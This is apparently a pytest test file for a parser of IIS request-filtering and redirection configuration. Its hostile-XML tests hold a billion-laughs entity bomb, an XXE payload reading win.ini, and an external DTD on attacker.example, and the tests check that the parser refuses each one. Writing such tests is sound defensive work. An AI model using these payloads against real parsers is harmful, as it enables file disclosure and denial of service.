"""cwh.parse.iis: requestFiltering in applicationHost.config (CWH-WEB-01, CWH-WEB-03)."""

from __future__ import annotations

import time

import pytest

from cwh.parse.iis import (
    IisConfigError,
    Redirection,
    RequestFiltering,
    Verb,
    parse_redirection,
    parse_request_filtering,
    parse_web_config_filtering,
)

# An excerpt of a stock IIS 10 applicationHost.config (Windows Server 2019, Web-Server role with
# defaults), as Get-Content -Raw hands it over: UTF-8 BOM, CRLF, comments.
HEAD = """\ufeff<?xml version="1.0" encoding="UTF-8"?>
<!--
    IIS configuration sections.
    For schema documentation, see %windir%\\system32\\inetsrv\\config\\schema\\IIS_schema.xml.
-->
<configuration>
    <configSections>
        <sectionGroup name="system.applicationHost">
            <section name="applicationPools" allowDefinition="AppHostOnly"
                     overrideModeDefault="Deny" />
            <section name="sites" allowDefinition="AppHostOnly"
                     overrideModeDefault="Deny" />
            <section name="webLimits" allowDefinition="AppHostOnly"
                     overrideModeDefault="Deny" />
        </sectionGroup>
        <sectionGroup name="system.webServer">
            <section name="defaultDocument" overrideModeDefault="Allow" />
            <section name="directoryBrowse" overrideModeDefault="Allow" />
            <sectionGroup name="security">
                <section name="access" overrideModeDefault="Deny" />
                <section name="requestFiltering" overrideModeDefault="Allow" />
                <sectionGroup name="authentication">
                    <section name="anonymousAuthentication" overrideModeDefault="Deny" />
                    <section name="windowsAuthentication" overrideModeDefault="Deny" />
                </sectionGroup>
            </sectionGroup>
            <section name="httpProtocol" overrideModeDefault="Allow" />
        </sectionGroup>
    </configSections>
    <system.applicationHost>
        <applicationPools>
            <add name="DefaultAppPool" />
            <applicationPoolDefaults managedRuntimeVersion="v4.0">
                <processModel identityType="ApplicationPoolIdentity" />
            </applicationPoolDefaults>
        </applicationPools>
        <sites>
            <site name="Default Web Site" id="1">
                <application path="/">
                    <virtualDirectory path="/" physicalPath="%SystemDrive%\\inetpub\\wwwroot" />
                </application>
                <bindings>
                    <binding protocol="http" bindingInformation="*:80:" />
                </bindings>
            </site>
            <siteDefaults>
                <logFile logFormat="W3C" directory="%SystemDrive%\\inetpub\\logs\\LogFiles" />
            </siteDefaults>
        </sites>
        <webLimits />
    </system.applicationHost>
    <system.webServer>
        <defaultDocument enabled="true">
            <files>
                <add value="Default.htm" />
                <add value="index.html" />
                <add value="iisstart.htm" />
            </files>
        </defaultDocument>
        <directoryBrowse enabled="false" />
        <httpProtocol>
            <customHeaders>
                <clear />
                <add name="X-Powered-By" value="ASP.NET" />
            </customHeaders>
        </httpProtocol>
        <security>
            <access sslFlags="None" />
            <authentication>
                <anonymousAuthentication enabled="true" userName="IUSR" />
                <windowsAuthentication enabled="false" />
            </authentication>
"""

STOCK_FILTERING = """            <requestFiltering>
                <fileExtensions allowUnlisted="true" applyToWebDAV="true">
                    <add fileExtension=".asa" allowed="false" />
                    <add fileExtension=".asax" allowed="false" />
                    <add fileExtension=".config" allowed="false" />
                    <add fileExtension=".mdb" allowed="false" />
                </fileExtensions>
                <verbs allowUnlisted="true" applyToWebDAV="true" />
                <hiddenSegments applyToWebDAV="true">
                    <add segment="web.config" />
                    <add segment="bin" />
                    <add segment="App_Data" />
                </hiddenSegments>
            </requestFiltering>
"""

TAIL = """        </security>
        <staticContent lockAttributes="isDocFooterFileName" />
    </system.webServer>
    <location path="" overrideMode="Allow">
        <system.webServer>
            <modules>
                <add name="RequestFilteringModule" lockItem="true" />
            </modules>
        </system.webServer>
    </location>
</configuration>
"""


def config(filtering: str = STOCK_FILTERING, tail: str = TAIL) -> str:
    return (HEAD + filtering + tail).replace("\n", "\r\n")


STOCK = config()

HARDENED = config("""            <requestFiltering removeServerHeader="true">
                <fileExtensions allowUnlisted="true" applyToWebDAV="true">
                    <add fileExtension=".config" allowed="false" />
                </fileExtensions>
                <verbs allowUnlisted="true" applyToWebDAV="true">
                    <add verb="TRACE" allowed="false" />
                    <add verb="OPTIONS" allowed="false" />
                </verbs>
                <requestLimits maxAllowedContentLength="30000000" />
            </requestFiltering>
""")

SITE_ONLY = config("", TAIL.replace("</configuration>", """    <location path="Default Web Site">
        <system.webServer>
            <security>
                <requestFiltering removeServerHeader="True">
                    <verbs>
                        <add verb="OPTIONS" allowed="False" />
                    </verbs>
                </requestFiltering>
            </security>
        </system.webServer>
    </location>
</configuration>
"""))


def test_stock_config_has_nothing_set() -> None:
    result = parse_request_filtering(STOCK)
    assert result.found is True
    assert result.source == "configuration/system.webServer/security/requestFiltering"
    assert result.remove_server_header is None  # absent, not "false" and not "true"
    assert result.allow_unlisted_verbs is True
    assert result.verbs == ()
    assert result.site_overrides == ()


def test_hardened_config() -> None:
    result = parse_request_filtering(HARDENED)
    assert result.remove_server_header is True
    assert result.verbs == (Verb("TRACE", False), Verb("OPTIONS", False))
    assert result.verb("options") == Verb("OPTIONS", False)
    assert result.verb("PUT") is None


def test_request_filtering_absent_is_reported_missing() -> None:
    result = parse_request_filtering(config(""))
    assert result == RequestFiltering(found=False, source=None, remove_server_header=None,
                                      allow_unlisted_verbs=None, verbs=(), site_overrides=())


def test_site_location_is_reported_separately_not_merged() -> None:
    result = parse_request_filtering(SITE_ONLY)
    assert result.found is False
    assert result.remove_server_header is None
    assert result.verbs == ()
    [site] = result.site_overrides
    assert site.path == "Default Web Site"
    assert site.remove_server_header is True
    assert site.allow_unlisted_verbs is None
    assert site.verbs == (Verb("OPTIONS", False),)
    assert site.verbs_cleared is False
    assert site.verbs_removed == ()


@pytest.mark.parametrize("opening", ['<location path="">', '<location path=".">', "<location>"])
def test_server_level_location_counts_as_global(opening: str) -> None:
    text = config("", TAIL.replace("</configuration>", f"""    {opening}
        <system.webServer><security>
            <requestFiltering removeServerHeader="TRUE"><verbs allowUnlisted="false">
                <add verb="GET" allowed="true" /><add verb="POST" />
            </verbs></requestFiltering>
        </security></system.webServer>
    </location>
</configuration>"""))
    result = parse_request_filtering(text)
    assert result.found is True
    assert result.source is not None and result.source.startswith("configuration/location")
    assert result.remove_server_header is True
    assert result.allow_unlisted_verbs is False
    # `allowed` absent means allowed (IIS default): never read as denied.
    assert result.verbs == (Verb("GET", True), Verb("POST", True))
    assert result.site_overrides == ()


def test_global_and_site_side_by_side() -> None:
    text = HARDENED.replace("</configuration>", """
    <location path="Default Web Site/app">
        <system.webServer><security><requestFiltering removeServerHeader="false">
            <verbs><remove verb="OPTIONS" /><add verb="OPTIONS" allowed="true" /></verbs>
        </requestFiltering></security></system.webServer>
    </location>
</configuration>""")
    result = parse_request_filtering(text)
    assert result.remove_server_header is True
    assert result.verb("OPTIONS") == Verb("OPTIONS", False)
    [site] = result.site_overrides
    assert site.path == "Default Web Site/app"
    assert site.remove_server_header is False
    assert site.verbs == (Verb("OPTIONS", True),)
    assert site.verbs_removed == ("OPTIONS",)


def verbs_result(verbs: str) -> tuple[Verb, ...]:
    text = config(f"""            <requestFiltering><verbs allowUnlisted="true">{verbs}</verbs>
            </requestFiltering>
""")
    return parse_request_filtering(text).verbs


def test_verbs_apply_add_remove_clear_in_order() -> None:
    assert verbs_result('<add verb="OPTIONS" allowed="false" /><remove verb="OPTIONS" />') == ()
    assert verbs_result('<add verb="OPTIONS" allowed="false" /><clear />'
                        '<add verb="PUT" allowed="false" />') == (Verb("PUT", False),)
    assert verbs_result('<clear /><add verb="OPTIONS" allowed="false" />'
                        '<remove verb="options" /><add verb="OPTIONS" allowed="true" />') == \
        (Verb("OPTIONS", True),)


def test_site_clear_is_recorded() -> None:
    text = SITE_ONLY.replace("<verbs>", '<verbs><remove verb="TRACE" /><clear />')
    [site] = parse_request_filtering(text).site_overrides
    assert site.verbs_cleared is True
    assert site.verbs_removed == ()  # a clear drops everything inherited anyway
    assert site.verbs == (Verb("OPTIONS", False),)


@pytest.mark.parametrize(("fragment", "message"), [
    ('<requestFiltering removeServerHeader="yes">', "removeServerHeader='yes'"),
    ('<requestFiltering removeServerHeader="">', "removeServerHeader=''"),
    ('<requestFiltering removeServerHeader=" true">', "removeServerHeader=' true'"),
    ('<requestFiltering><verbs allowUnlisted="1" />', "allowUnlisted='1'"),
    ('<requestFiltering><verbs><add verb="OPTIONS" allowed="no" /></verbs>', "allowed='no'"),
])
def test_bad_booleans_name_the_attribute(fragment: str, message: str) -> None:
    text = config(f"            {fragment}\n            </requestFiltering>\n")
    with pytest.raises(IisConfigError, match=message):
        parse_request_filtering(text)


@pytest.mark.parametrize(("filtering", "message"), [
    ('<requestFiltering><verbs><add verb="GET" /><add verb="get" /></verbs></requestFiltering>',
     "added twice"),
    ('<requestFiltering><verbs><add allowed="false" /></verbs></requestFiltering>', "no verb"),
    ('<requestFiltering><verbs><deny verb="GET" /></verbs></requestFiltering>', "unknown"),
    ('<requestFiltering configSource="rf.config" />', "configSource"),
    ("<requestFiltering><verbs /><verbs /></requestFiltering>", "more than one"),
])
def test_what_iis_would_refuse_is_an_error(filtering: str, message: str) -> None:
    with pytest.raises(IisConfigError, match=message):
        parse_request_filtering(config(f"            {filtering}\n"))


def test_duplicate_server_level_section_is_an_error() -> None:
    text = STOCK.replace('<location path="" overrideMode="Allow">\r\n        <system.webServer>',
                         '<location path="" overrideMode="Allow">\r\n        <system.webServer>'
                         '<security><requestFiltering removeServerHeader="true" /></security>')
    with pytest.raises(IisConfigError, match="2 times"):
        parse_request_filtering(text)


def test_duplicate_site_section_is_an_error() -> None:
    site = SITE_ONLY[SITE_ONLY.index('    <location path="Default Web Site">'):
                     SITE_ONLY.index("</configuration>")]
    text = SITE_ONLY.replace("</configuration>", site.replace("Default Web Site",
                                                              "default web site") +
                             "</configuration>")
    with pytest.raises(IisConfigError, match="twice"):
        parse_request_filtering(text)


@pytest.mark.parametrize(("text", "message"), [
    ("", "empty"),
    ("   \r\n", "empty"),
    ("<configuration><system.applicationHost></configuration>", "not well-formed"),
    (STOCK[: len(STOCK) // 2], "not well-formed"),
    ("Get-Content : Cannot find path 'C:\\Windows\\System32\\inetsrv\\config\\"
     "applicationHost.config' because it does not exist.", "not well-formed"),
    ('<?xml version="1.0"?><configuration><appSettings /></configuration>',
     "not an applicationHost.config"),
    ("<settings><system.applicationHost /></settings>", "not <configuration>"),
    ("<configuration>\ud800</configuration>", "characters"),
])
def test_unusable_text_is_an_error(text: str, message: str) -> None:
    with pytest.raises(IisConfigError, match=message):
        parse_request_filtering(text)


BOMB = """<?xml version="1.0"?>
<!DOCTYPE configuration [
  <!ENTITY lol "lol">
  <!ENTITY lol1 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">
  <!ENTITY lol2 "&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;&lol1;">
  <!ENTITY lol3 "&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;&lol2;">
  <!ENTITY lol4 "&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;&lol3;">
  <!ENTITY lol5 "&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;&lol4;">
  <!ENTITY lol6 "&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;&lol5;">
  <!ENTITY lol7 "&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;&lol6;">
  <!ENTITY lol8 "&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;&lol7;">
  <!ENTITY lol9 "&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;&lol8;">
]>
<configuration><system.applicationHost /><system.webServer><security>
<requestFiltering removeServerHeader="true"><verbs><add verb="&lol9;" allowed="false" /></verbs>
</requestFiltering></security></system.webServer></configuration>
"""

EXTERNAL_ENTITY = """<?xml version="1.0"?>
<!DOCTYPE configuration [<!ENTITY xxe SYSTEM "file:///C:/Windows/win.ini">]>
<configuration><system.applicationHost /><system.webServer><security>
<requestFiltering removeServerHeader="&xxe;" /></security></system.webServer></configuration>
"""

EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE configuration SYSTEM "http://attacker.example/iis.dtd">
<configuration><system.applicationHost /><system.webServer><security>
<requestFiltering removeServerHeader="true" /></security></system.webServer></configuration>
"""

INTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE configuration [<!ATTLIST requestFiltering removeServerHeader CDATA "true">]>
<configuration><system.applicationHost /><system.webServer><security>
<requestFiltering /></security></system.webServer></configuration>
"""


@pytest.mark.parametrize(("text", "message"), [
    (BOMB, r"declares entities \(possible XML bomb\); refused"),
    (EXTERNAL_ENTITY, r"external entity 'xxe' \('file:///C:/Windows/win.ini'\); refused"),
    (EXTERNAL_DTD, r"declares a DTD .* 'http://attacker.example/iis.dtd'; .*refused"),
    # A DTD can also smuggle attribute defaults: removeServerHeader would read "true".
    (INTERNAL_DTD, r"declares a DTD \(<!DOCTYPE configuration>\); .*refused"),
])
def test_hostile_xml_is_refused(text: str, message: str) -> None:
    started = time.perf_counter()
    with pytest.raises(IisConfigError, match=message):
        parse_request_filtering(text)
    assert time.perf_counter() - started < 1.0


def test_size_is_capped() -> None:
    padding = "<!-- " + "x" * (8 * 1024 * 1024) + " -->"
    with pytest.raises(IisConfigError, match=r"over the .* cap"):
        parse_request_filtering(STOCK.replace("<configuration>", padding + "<configuration>"))


def test_deep_nesting_does_not_crash() -> None:
    depth = 100_000
    text = config("            " + "<x>" * depth + "</x>" * depth + "\n")
    assert parse_request_filtering(text).found is False


def test_result_is_plain_printable_data() -> None:
    result = parse_request_filtering(HARDENED)
    text = repr(result)
    assert "remove_server_header=True" in text
    assert "Verb(name='OPTIONS', allowed=False)" in text
    with pytest.raises(AttributeError):
        result.found = False  # type: ignore[misc]


# --- a site's web.config and redirection.config (issue 10, item 18) ------------------------------

SITE_WEB_CONFIG = """\ufeff<?xml version="1.0" encoding="utf-8"?>
<configuration>
  <system.webServer>
    <rewrite><rules><rule name="to ScreenConnect" stopProcessing="true">
      <match url="(.*)" /><action type="Rewrite" url="http://127.0.0.1:8040/{R:1}" />
    </rule></rules></rewrite>
    <security>
      <requestFiltering removeServerHeader="false">
        <verbs><remove verb="OPTIONS" /></verbs>
      </requestFiltering>
    </security>
  </system.webServer>
  <location path="admin/">
    <system.webServer><security>
      <requestFiltering><verbs allowUnlisted="false"><add verb="GET" /></verbs></requestFiltering>
    </security></system.webServer>
  </location>
</configuration>
""".replace("\n", "\r\n")


def test_web_config_levels_are_named_by_the_path_they_serve() -> None:
    root, admin = parse_web_config_filtering(SITE_WEB_CONFIG, "Front End/", r"C:\sc\web.config")
    assert (root.path, root.source) == ("Front End", r"C:\sc\web.config")
    assert root.remove_server_header is False and root.verbs_removed == ("OPTIONS",)
    assert admin.path == "Front End/admin" and admin.allow_unlisted_verbs is False
    assert admin.verbs == (Verb("GET", True),)


def test_web_config_without_request_filtering_has_no_level() -> None:
    assert parse_web_config_filtering("<configuration><system.web /></configuration>",
                                      "Site") == ()


@pytest.mark.parametrize(("text", "message"), [
    ("<configuration><system.webServer><security><requestFiltering />"
     "</security></system.webServer><location path='.'><system.webServer><security>"
     "<requestFiltering /></security></system.webServer></location></configuration>",
     r"C:\\s\\web.config defines requestFiltering twice for 'Site'"),
    ("<configuration><system.webServer><security><requestFiltering removeServerHeader='1' />"
     "</security></system.webServer></configuration>",
     r"C:\\s\\web.config: removeServerHeader='1'"),
    ("<configuration><system.webServer><security><requestFiltering configSource='rf.config' />"
     "</security></system.webServer></configuration>", "kept in another file"),
    ("<configuration>", "not well-formed XML"),
    ("<!DOCTYPE configuration [<!ENTITY a 'b'>]><configuration />", "entities"),
])
def test_what_iis_would_refuse_in_a_web_config_names_the_file(text: str, message: str) -> None:
    with pytest.raises(IisConfigError, match=message):
        parse_web_config_filtering(text, "Site", r"C:\s\web.config")


STOCK_REDIRECTION = """<configuration>
    <configSections>
        <section name="configurationRedirection" />
    </configSections>
    <configurationRedirection />
</configuration>
"""


def test_stock_redirection_config_is_not_shared_configuration() -> None:
    assert parse_redirection(STOCK_REDIRECTION) == Redirection(False, None)
    assert parse_redirection("<configuration />") == Redirection(False, None)


def test_shared_configuration_path_without_its_credentials() -> None:
    text = STOCK_REDIRECTION.replace(
        "<configurationRedirection />",
        '<configurationRedirection enabled="TRUE" path="\\\\fs01\\iis" userName="CORP\\svc" '
        'password="[enc:IISCngProvider:c2VjcmV0:enc]" />')
    result = parse_redirection(text)
    assert result == Redirection(True, "\\\\fs01\\iis")
    assert "c2VjcmV0" not in repr(result)


@pytest.mark.parametrize("text", [
    "<configuration><configurationRedirection enabled='on' /></configuration>",
    "<configuration><configurationRedirection /><configurationRedirection />"
    "</configuration>",
    "<notconfiguration />",
])
def test_unusable_redirection_config_is_an_error(text: str) -> None:
    with pytest.raises(IisConfigError):
        parse_redirection(text)
